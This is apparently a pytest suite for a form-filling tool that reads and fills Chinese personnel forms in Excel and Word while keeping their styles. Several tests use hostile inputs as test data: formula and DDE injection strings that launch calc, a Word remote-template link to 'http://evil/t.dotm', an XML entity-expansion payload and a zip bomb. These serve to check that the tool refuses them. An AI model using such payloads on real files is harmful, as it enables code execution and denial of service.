"""Other people's forms: what is found in them, and that filled ones read back as they should, styles kept."""

import io
import itertools
import zipfile
from copy import copy
from pathlib import Path

import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop.domain.errors import RosterError
from desktop.roster.forms import proposal
from desktop.roster.forms.blanks import applied, edits_of, spans_of
from desktop.roster.forms.filling import fill_form, read_form
from desktop.roster.forms.shape import Filling
from tests.roster import form_samples as samples

FORMULAS = ("=1+1", "+1", "-1", "@x", "=cmd|'/c calc'!A0", "\t=1")


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def test_a_persons_form_proposes_what_its_words_say(tmp_path: Path) -> None:
    shape = read_form(samples.person_xlsx(tmp_path / "f.xlsx"))
    places, columns = proposal.propose(shape)
    assert shape.rows is None
    assert not columns
    expected = {
        "1!B2": "person.name", "1!E2": "person.sex", "1!H2": "person.birth_id|年月", "1!B3": "person.id_no|第1位",
        "1!S3": "person.id_no|第18位", "1!B4": "person.live_addr", "1!D5#1": "person.political", "1!C6": "contact1.name",
        "1!F7": "contact1.address", "1!A10": "contact2.relation", "1!C9": "contact1.phone", "1!A11#1": "person.person_no",
        "1!A12#1": "user", "1!A12#2": "today|年", "1!A12#4": "today|日",
    }  # fmt: skip
    assert {key: places.get(key) for key in expected} == expected
    assert not {"1!D8", "1!B14", "1!B11"} & set(places)


def test_a_list_is_told_from_a_persons_form(tmp_path: Path) -> None:
    for path in (samples.list_xlsx(tmp_path / "l.xlsx"), samples.list_docx(tmp_path / "l.docx")):
        shape = read_form(path)
        assert shape.rows is not None
    shape = read_form(tmp_path / "l.xlsx")
    assert (shape.rows.first, shape.rows.last) == (5, 7)
    assert proposal.propose(shape)[1] == {
        "A": "seq", "B": "person.name", "C": "person.id_no", "D": "contact1.name", "E": "contact1.phone",
    }  # fmt: skip


def test_the_fingerprint_outlives_a_new_name_and_style_but_not_new_words(tmp_path: Path) -> None:
    path = samples.person_xlsx(tmp_path / "f.xlsx")
    first = read_form(path).fingerprint
    book = load_workbook(path)
    book.worksheets[0].title = "七月"
    book.worksheets[0]["A1"].font = copy(book.worksheets[0]["B2"].font)
    book.save(tmp_path / "again.xlsx")
    assert read_form(tmp_path / "again.xlsx").fingerprint == first
    book.worksheets[0]["A1"] = "企业退休人员登记表（2026年6月）"
    book.save(tmp_path / "june.xlsx")
    book.worksheets[0]["A1"] = "企业退休人员登记表（2026年12月）"
    book.save(tmp_path / "december.xlsx")
    assert read_form(tmp_path / "june.xlsx").fingerprint == read_form(tmp_path / "december.xlsx").fingerprint
    book.worksheets[0]["A4"] = "户籍地址"
    book.save(tmp_path / "other.xlsx")
    assert read_form(tmp_path / "other.xlsx").fingerprint != first


def test_a_filled_sheet_keeps_its_looks_and_ids_stay_texts(tmp_path: Path) -> None:
    path = samples.person_xlsx(tmp_path / "f.xlsx")
    values = {
        "1!B2": "张三", "1!B4": "西咸新区上林街道青杨小区3号楼2单元501室", "1!D5#1": ["群众"], "1!B3": "6",
        "1!F6": "13900001111", "1!A11#1": "S001", "1!A12#1": "王敏", "1!A12#2": "2026", "1!A12#3": "7", "1!A12#4": "9",
    }  # fmt: skip
    (content,) = fill_form(path, [Filling("张三", values)], together=False)
    before, sheet = load_workbook(path).worksheets[0], sheet_of(content)
    assert sheet["B2"].value == "张三"
    assert sheet["B2"].font.name == "楷体"
    assert sheet["B2"].fill.start_color.rgb == "00FFFF00"
    assert sheet["D5"].value == "□中共党员 ☑群众"
    assert sheet["F6"].value == "13900001111"
    assert sheet["F6"].data_type == "s"
    assert sheet["F6"].number_format == "@"
    assert sheet["A11"].value == "编号：S001"
    assert sheet["A12"].value.replace("_", "") == "填表人：王敏　填表日期：2026年7月9日"
    assert {str(one) for one in sheet.merged_cells.ranges} == {str(one) for one in before.merged_cells.ranges}
    assert sheet.column_dimensions["A"].width == 12.5
    assert sheet.row_dimensions[4].height == 31
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_area == before.print_area


def test_many_people_stand_in_one_workbook_a_sheet_each(tmp_path: Path) -> None:
    path = samples.person_xlsx(tmp_path / "f.xlsx")
    fillings = [Filling(f"S{one}-张{one}", {"1!B2": f"张{one}"}) for one in range(3)]
    (content,) = fill_form(path, fillings, together=True)
    book = load_workbook(io.BytesIO(content))
    assert [sheet["B2"].value for sheet in book.worksheets] == ["张0", "张1", "张2"]
    assert book.worksheets[2].print_area == "'3 S2-张2'!$A$1:$S$13"
    assert "B2:C2" in {str(one) for one in book.worksheets[1].merged_cells.ranges}
    parts = list(fill_form(path, fillings, together=False))
    assert [sheet_of(one)["B2"].value for one in parts] == ["张0", "张1", "张2"]


@pytest.mark.parametrize("people", [3, 8])
def test_a_list_makes_room_above_its_sum(tmp_path: Path, people: int) -> None:
    path = samples.list_xlsx(tmp_path / "l.xlsx")
    rows = [
        {"A": str(one + 1), "B": f"人{one}", "C": f"61010019400101{one:04d}", "F": str(one)} for one in range(people)
    ]
    (content,) = fill_form(path, [Filling("名单", {"1!A2#1": "青杨社区"}, rows)], together=False)
    sheet = sheet_of(content)
    foot = 8 + max(people - 3, 0)
    assert [sheet.cell(5 + one, 2).value for one in range(people)] == [f"人{one}" for one in range(people)]
    assert all(sheet.cell(5 + one, 3).data_type == "s" for one in range(people))
    assert sheet.cell(foot, 1).value == "合计"
    assert sheet.cell(foot, 6).value == f"=SUM(F5:F{foot - 1})"
    assert f"A{foot}:E{foot}" in {str(one) for one in sheet.merged_cells.ranges}
    assert sheet.cell(foot - 1, 4).border.left.style == "thin"
    assert sheet.row_dimensions[foot - 1].height == 28
    assert sheet.print_area.endswith(f"$G${foot + 1}")
    assert "青杨社区" in sheet["A2"].value


@pytest.mark.parametrize("evil", [FORMULAS[0], *(pytest.param(one, marks=pytest.mark.long) for one in FORMULAS[1:])])
def test_no_text_becomes_a_formula(tmp_path: Path, evil: str) -> None:
    path = samples.list_xlsx(tmp_path / "l.xlsx")
    (content,) = fill_form(path, [Filling("名单", {}, [{"B": evil}])], together=False)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert xml.count("<f>") == 1  # the form's own sum
    cell = sheet_of(content)["B5"]
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_a_formula_that_calls_a_program_is_taken_out(tmp_path: Path) -> None:
    path = samples.list_xlsx(tmp_path / "l.xlsx")
    book = load_workbook(path)
    book.worksheets[0]["G9"] = "=cmd|'/c calc'!A0"
    book.save(path)
    (content,) = fill_form(path, [Filling("名单", {}, [{"B": "张三"}])], together=False)
    assert sheet_of(content)["G9"].value is None


def test_word_keeps_the_looks_of_every_run(tmp_path: Path) -> None:
    path = samples.person_docx(tmp_path / "f.docx")
    values = {"1!A2#1": "张三", "1!A2#2": "610100194001010015", "1!A2#3": ["女"], "3!B1": "张三", "3!B2": "3号楼"}
    (content,) = fill_form(path, [Filling("张三", values)], together=False)
    document = Document(io.BytesIO(content))
    line = document.paragraphs[1]
    assert line.text.replace(" ", "") == "兹有张三同志，身份证号：610100194001010015，性别：□男☑女。"
    assert [run.bold for run in line.runs if "张三" in run.text] == [True]
    assert [run.underline for run in line.runs if "610100" in run.text] == [True]
    assert document.tables[0].cell(0, 1).paragraphs[0].runs[0].font.size.pt == 16
    assert document.tables[0].cell(1, 2).text == "3号楼"


def test_word_lists_grow_and_people_share_a_document(tmp_path: Path) -> None:
    rows = [{"A": str(one), "B": f"人{one}"} for one in range(5)]
    (content,) = fill_form(samples.list_docx(tmp_path / "l.docx"), [Filling("名单", {}, rows)], together=False)
    table = Document(io.BytesIO(content)).tables[0]
    assert [row.cells[1].text for row in table.rows] == ["姓名", *(f"人{one}" for one in range(5))]
    fillings = [Filling(f"{one}", {"3!B1": f"人{one}"}) for one in range(3)]
    (content,) = fill_form(samples.person_docx(tmp_path / "f.docx"), fillings, together=True)
    assert [table.cell(0, 1).text for table in Document(io.BytesIO(content)).tables] == ["人0", "人1", "人2"]


def _with_part(path: Path, name: str, body: str) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, body)


def test_a_form_that_fetches_or_runs_something_is_refused(tmp_path: Path) -> None:
    path = samples.person_docx(tmp_path / "f.docx")
    _with_part(path, "word/_rels/settings.xml.rels", '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
               'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>')  # fmt: skip
    with pytest.raises(RosterError, match="取内容"):
        read_form(path)
    path = samples.person_docx(tmp_path / "g.docx")
    _with_part(path, "word/footnotes2.xml", '<w:instrText>DDEAUTO c:\\\\calc.exe</w:instrText>')  # fmt: skip
    with pytest.raises(RosterError, match="别的程序"):
        read_form(path)


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04junk", b"hello", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old"])
def test_what_is_no_form_is_refused_in_one_sentence(tmp_path: Path, raw: bytes) -> None:
    path = tmp_path / "x.xlsx"
    path.write_bytes(raw)
    with pytest.raises(RosterError, match=r"x\.xlsx"):
        read_form(path)


words = st.text(st.sampled_from("姓名性别：____{{}}□男 女年月日　（）abc"), max_size=40)


@given(words, st.text(st.sampled_from("张三6=+ _"), max_size=8))
def test_filling_a_text_never_touches_what_is_no_blank(text: str, value: str) -> None:
    spans = spans_of(text)
    assert all(one.end <= other.start for one, other in itertools.pairwise(spans))
    edits = edits_of(text, dict.fromkeys(range(len(spans)), value))
    filled = applied(text, edits)
    kept, at = [], 0
    for start, end, _ in sorted(edits):
        kept.append(text[at:start])
        at = end
    kept.append(text[at:])
    rest = filled
    for part in kept:
        assert part in rest
        rest = rest[rest.index(part) + len(part) :]


@pytest.mark.parametrize(
    "evil", ["doctype", "lies", *(pytest.param(one, marks=pytest.mark.long) for one in ("utf16", "bomb"))]
)
def test_a_hostile_workbook_is_refused_before_it_is_parsed(tmp_path: Path, evil: str) -> None:
    path = samples.list_xlsx(tmp_path / "l.xlsx")
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><sst>&b;</sst>'
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/sharedStrings.xml"] = {
        "doctype": b" " * 100_000 + laughs.encode(), "utf16": laughs.encode("utf-16"), "bomb": b"0" * (150 << 20), "lies": b"x",
    }[evil]  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    if evil == "lies":  # the directory says less than is there
        raw = bytearray(path.read_bytes())
        at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(b"xl/sharedStrings.xml"))
        raw[at + 24 : at + 28] = (7).to_bytes(4, "little")
        path.write_bytes(bytes(raw))
    with pytest.raises(RosterError, match=r"l\.xlsx"):
        read_form(path)
